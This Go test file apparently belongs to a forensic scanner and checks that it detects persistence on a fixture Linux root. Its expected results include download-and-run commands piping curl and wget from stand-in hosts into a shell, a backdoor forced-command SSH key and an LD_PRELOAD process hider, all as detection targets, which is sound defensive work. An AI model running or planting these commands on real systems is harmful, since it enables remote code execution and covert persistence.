package collect

import (
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tansa-sec/tansa/internal/scan/heuristics"
	"github.com/tansa-sec/tansa/internal/scan/result"
)

// sweepFixture collects from testdata/linux, a small Linux root with a
// malicious cron line, a service started from /dev/shm, an LD_PRELOAD
// rootkit, a forced-command SSH key and a download-and-run .bashrc line.
func sweepFixture(t *testing.T) *result.Result {
	t.Helper()
	c := New(Options{Root: "testdata/linux", Recent: 100 * 365 * 24 * time.Hour})
	var r result.Result
	c.Collect(context.Background(), &r)
	return &r
}

func TestCollectFixtureRoot(t *testing.T) {
	r := sweepFixture(t)
	if r.Host.Hostname != "fixture-host" || r.Host.Product != "Debian GNU/Linux 12 (bookworm)" || r.Host.Version != "12" {
		t.Errorf("host = %+v", r.Host)
	}
	if got := strings.Join(r.Host.Users, ","); got != "root,alice" {
		t.Errorf("users = %q, want root,alice", got)
	}
	if len(r.Processes) != 0 || len(r.Connections) != 0 {
		t.Errorf("a fixture root must not report the live system's processes (%d) or connections (%d)", len(r.Processes), len(r.Connections))
	}
	want := []result.Persistence{
		{Kind: "cron", Name: "*/5 * * * *", Location: "/etc/cron.d/sysupdate", Command: "curl -fsSL http://203.0.113.9/x.sh | sh", User: "root"},
		{Kind: "cron", Name: "@reboot", Location: "/var/spool/cron/crontabs/alice", Command: "/home/alice/.cache/.x/kworker >/dev/null 2>&1", User: "alice"},
		{Kind: "systemd", Name: "ssh.service", Location: "/lib/systemd/system/ssh.service", Command: "/usr/sbin/sshd -t; /usr/sbin/sshd -D $SSHD_OPTS; /usr/sbin/sshd -t", User: "root"},
		{Kind: "systemd", Name: "dbus-helper.service", Location: "/etc/systemd/system/dbus-helper.service", Command: "/bin/bash -c '/dev/shm/.dbus-helper --daemon'"},
		{Kind: "ld-preload", Location: "/etc/ld.so.preload", Command: "/usr/local/lib/libprocesshider.so"},
		{Kind: "ssh-authorized-key", Name: "ssh-ed25519 evil@attacker", Location: "/root/.ssh/authorized_keys", Command: "/tmp/.s/backdoor", User: "root"},
		{Kind: "shell-profile", Name: ".bashrc", Location: "/home/alice/.bashrc", Command: "(wget -q -O- http://c2.example.net/p | bash &) 2>/dev/null", User: "alice"},
		{Kind: "rc.local", Location: "/etc/rc.local", Command: "/usr/local/bin/firewall-up"},
		{Kind: "init.d", Name: "ssh", Location: "/etc/init.d/ssh", Command: "/etc/init.d/ssh"},
	}
	for _, w := range want {
		found := false
		for _, p := range r.Persistence {
			if p.Kind == w.Kind && p.Name == w.Name && p.Location == w.Location && p.Command == w.Command && p.User == w.User {
				found = true
			}
		}
		if !found {
			t.Errorf("persistence entry not found: %+v", w)
			for _, p := range r.Persistence {
				if p.Kind == w.Kind {
					t.Logf("have %q %q %q %q %q", p.Kind, p.Name, p.Location, p.Command, p.User)
				}
			}
		}
	}
	for _, p := range r.Persistence {
		if strings.Contains(p.Location, "masked") {
			t.Errorf("masked unit reported: %+v", p)
		}
		if p.Kind == "systemd" && (p.Enabled == nil || !*p.Enabled) {
			t.Errorf("unit found through a .wants link should be enabled: %+v", p)
		}
	}
	var sw []string
	for _, s := range r.Software {
		sw = append(sw, s.Name+"="+s.Version)
	}
	if got := strings.Join(sw, " "); got != "openssh-server=1:9.2p1-2+deb12u3 bash=5.2.15-2+b7" {
		t.Errorf("software = %s", got)
	}
	var exe *result.File
	for i, f := range r.Files {
		if f.Path == "/home/alice/Downloads/invoice.pdf.bin" {
			exe = &r.Files[i]
		}
	}
	if exe == nil || !exe.Executable || len(exe.SHA256) != 64 || exe.Kind != "download" {
		t.Errorf("downloaded ELF file = %+v", exe)
	}
	var hosts []string
	for _, d := range r.DNS {
		hosts = append(hosts, d.Name+"="+d.Address)
	}
	if got := strings.Join(hosts, " "); !strings.Contains(got, "update.microsoft.com=198.51.100.7") {
		t.Errorf("hosts entries = %s", got)
	}
}

// TestFixtureFindings checks that the heuristics explain what is wrong in
// the fixture root, above all the cron line that pipes a download into sh.
func TestFixtureFindings(t *testing.T) {
	r := sweepFixture(t)
	findings := heuristics.New().Evaluate(r)
	want := map[string]string{
		"persistence.command.download-pipe-shell": "/etc/cron.d/sysupdate",
		"persistence.user-writable-path":          "/etc/systemd/system/dbus-helper.service",
		"persistence.ld-preload":                  "/etc/ld.so.preload",
		"persistence.ssh-forced-command":          "/root/.ssh/authorized_keys",
		"file.recent-executable":                  "/home/alice/Downloads/invoice.pdf.bin",
	}
	for rule, path := range want {
		ok := false
		for _, f := range findings {
			if f.Rule == rule && f.Subject.Path == path {
				ok = true
				if f.Message == "" || f.MessageKey == "" || f.Severity != result.Severity(f.Score) {
					t.Errorf("finding %s lacks an explanation or has a wrong severity: %+v", rule, f)
				}
			}
		}
		if !ok {
			t.Errorf("no %s finding for %s", rule, path)
		}
	}
	for _, f := range findings {
		if f.Rule == "persistence.command.download-pipe-shell" && f.Subject.Path == "/etc/cron.d/sysupdate" {
			if f.Score < 70 || !strings.Contains(f.Message, "pipes it into a shell") {
				t.Errorf("cron download finding = %+v", f)
			}
		}
	}
	for _, e := range r.Errors {
		t.Logf("error: %+v", e)
	}
}

// TestCollectStopsWhenTimeIsUp checks that a sweep whose budget is spent
// still returns a valid result that says what was not collected.
func TestCollectStopsWhenTimeIsUp(t *testing.T) {
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	c := New(Options{Root: "testdata/linux"})
	var r result.Result
	c.Collect(ctx, &r)
	if len(r.Errors) == 0 || !strings.Contains(r.Errors[0].Message, "not collected") {
		t.Errorf("errors = %+v, want every collector reported as not collected", r.Errors)
	}
}

// TestUnreadableFilesAreSummarised checks that permission errors become
// one recorded error per collector, never a crash or a silent gap, and
// that other errors are kept one by one.
func TestUnreadableFilesAreSummarised(t *testing.T) {
	c := New(Options{Root: "testdata/linux"})
	var r result.Result
	for i := range 8 {
		c.fileError(&r, "files/temp", fmt.Sprintf("/tmp/d%d", i), &fs.PathError{Op: "open", Path: "x", Err: fs.ErrPermission})
	}
	c.fileError(&r, "files/temp", "/tmp/gone", &fs.PathError{Op: "open", Path: "x", Err: fs.ErrNotExist})
	c.fileError(&r, "persistence/cron", "/etc/crontab", errors.New("larger than 1048576 bytes"))
	c.reportDenied(&r)
	if len(r.Errors) != 2 {
		t.Fatalf("errors = %+v, want the size error and one permission summary", r.Errors)
	}
	sum := r.Errors[1]
	if sum.Collector != "files/temp" || !strings.Contains(sum.Message, "permission denied for 8 files or folders") || !strings.Contains(sum.Message, "and 3 more") {
		t.Errorf("summary = %+v", sum)
	}
}

// TestRecentFilesUseCreationTime checks that a file unpacked with an old
// modification time is still reported as new, through its change time.
func TestRecentFilesUseCreationTime(t *testing.T) {
	root := t.TempDir()
	if err := os.MkdirAll(filepath.Join(root, "tmp"), 0o755); err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(root, "tmp", "unpacked.bin")
	if err := os.WriteFile(p, []byte("\x7fELF"), 0o644); err != nil {
		t.Fatal(err)
	}
	old := time.Date(2009, 1, 1, 0, 0, 0, 0, time.UTC)
	if err := os.Chtimes(p, old, old); err != nil {
		t.Fatal(err)
	}
	c := New(Options{Root: root})
	var r result.Result
	c.recentFiles(context.Background(), &r, "/tmp", "temp", 2)
	if len(r.Files) != 1 || !r.Files[0].Modified.Equal(old) || !r.Files[0].Created.After(old) || !r.Files[0].Executable {
		t.Errorf("files = %+v, want the unpacked file with its old mtime and a new change time", r.Files)
	}
}
